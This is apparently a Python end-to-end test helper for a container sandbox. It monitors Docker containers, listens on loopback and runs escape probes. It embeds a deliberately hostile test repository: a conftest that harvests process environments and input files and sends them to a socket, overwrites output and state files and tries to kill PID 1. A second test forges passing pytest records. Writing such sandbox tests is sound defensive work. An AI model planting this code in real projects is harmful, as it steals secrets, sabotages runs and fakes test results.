"""What the engine knows of the containers of a run, watched while they live; and a repository that attacks them."""

import json
import socket
import subprocess
import threading
from contextlib import contextmanager
from dataclasses import replace

from container import run_argv

CANARY = "canary-sk-ant-" + "c0de" * 8

SHOP = '''\
def price(net: int, tax: int = 20) -> int:
    """Return the price."""
    return net + net * tax // 100
'''
CHANGED = (
    SHOP
    + '''

def grade(points: int) -> str:
    """Return the mark for so many points."""
    if points < 0:
        raise ValueError("no points below nothing")
    if points > 90:
        return "A"
    if points > 50:
        return "B"
    return "C"
'''
)
CONFIG = """\
orchestration:
  test_gen:
    seconds_per_target: 25
    mutants: 20
"""
CONFTEST = """\
import glob, os, pathlib, socket, subprocess

def attempt(action):
    try:
        return repr(action())
    except BaseException as error:
        return f"{type(error).__name__}: {error}"

LOOT = [attempt(lambda path=path: pathlib.Path(path).read_bytes()) for path in
        ["/proc/1/environ", f"/proc/{os.getppid()}/environ", "/proc/self/environ", *glob.glob("/tmp/*/in/*.json")]]
LOOT.append(repr(dict(os.environ)))

def tell():
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as line:
        line.sendall(repr(LOOT).encode())

attempt(tell)
for folder in (ROOMS, WORKSPACE):
    for name in ("out/0.json", "out/1.json", "out/2.json", "in/9.json", "state/box", "source/x", "deps/x", "forged"):
        attempt(lambda: pathlib.Path(folder, name).write_text("{}"))
attempt(lambda: os.kill(1, 9))
attempt(lambda: os.setuid(0))
print("CONFTEST-RAN ##[add-mask]x", LOOT)
"""
FORGER = """\
import os

def test_forged():
    record = b'{"event": "test", "id": "tests/test_forger.py::test_forged", "outcome": "passed"}\\n{"event": "end"}\\n'
    for fd in range(3, 64):
        try:
            os.write(fd, record)
        except OSError:
            pass
    os._exit(0)
"""


def engine(*words):
    done = subprocess.run(["docker", *words], capture_output=True, text=True, timeout=30, check=False)
    return done.stdout


def containers(folder):
    """What the engine says of each of our containers that mounts something below *folder*, by its role."""
    names = [n for n in engine("ps", "--all", "--format", "{{.Names}}").split() if n.startswith("tta-")]
    found = [one for name in names for one in json.loads(engine("inspect", name) or "[]")]
    ours = [one for one in found if any(mount["Source"].startswith(f"{folder}/") for mount in one["Mounts"])]
    return {one["Name"].split("-")[1]: one for one in ours}


@contextmanager
def watched(folder):
    """Collect the containers that appear meanwhile; see :func:`containers`."""
    seen, over = {}, threading.Event()

    def look():
        while not over.is_set():
            seen.update({role: one for role, one in containers(folder).items() if role not in seen})
            over.wait(0.1)

    thread = threading.Thread(target=look)
    thread.start()
    try:
        yield seen
    finally:
        over.set()
        thread.join()


@contextmanager
def listener():
    """Listen on loopback; yields the port, and what came."""
    heard = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def serve():
            while True:
                try:
                    line, _ = server.accept()
                except OSError:
                    return
                with line:
                    heard.append(line.recv(1 << 20))

        threading.Thread(target=serve, daemon=True).start()
        yield server.getsockname()[1], heard
        server.shutdown(socket.SHUT_RDWR)


def escapes(container, host_file):
    """Run the escape probes in *container*, the launcher's own box, instead of what it would run."""
    words = ("-I", "-m", "tta_orchestrate.sandbox.escapes", "--level", "box", "--host-file", str(host_file))
    probing = replace(container, arguments=words, name="tta-escapes-e2e")
    try:
        return subprocess.run(run_argv("docker", probing), capture_output=True, text=True, timeout=200, check=False)
    finally:
        engine("rm", "--force", probing.name)
